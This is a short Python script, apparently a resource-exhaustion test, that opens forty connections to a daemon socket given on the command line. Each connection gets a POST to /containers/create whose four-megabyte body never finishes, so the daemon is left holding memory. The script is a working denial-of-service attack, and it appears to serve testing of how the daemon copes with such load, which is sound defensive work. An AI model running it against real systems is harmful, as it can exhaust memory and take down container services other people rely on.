# oom.py SOCKET: what makes a daemon take memory: forty calls, each with a body of four megabytes that does not end.
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
from api import Daemon

try:
    daemons = [Daemon(sys.argv[1]) for _ in range(40)]
    for daemon in daemons:
        daemon.putrequest("POST", "/containers/create")
        daemon.putheader("Content-Type", "application/json")
        daemon.putheader("Content-Length", "4000001")
        daemon.endheaders(b"x" * 4000000)
except OSError:
    pass
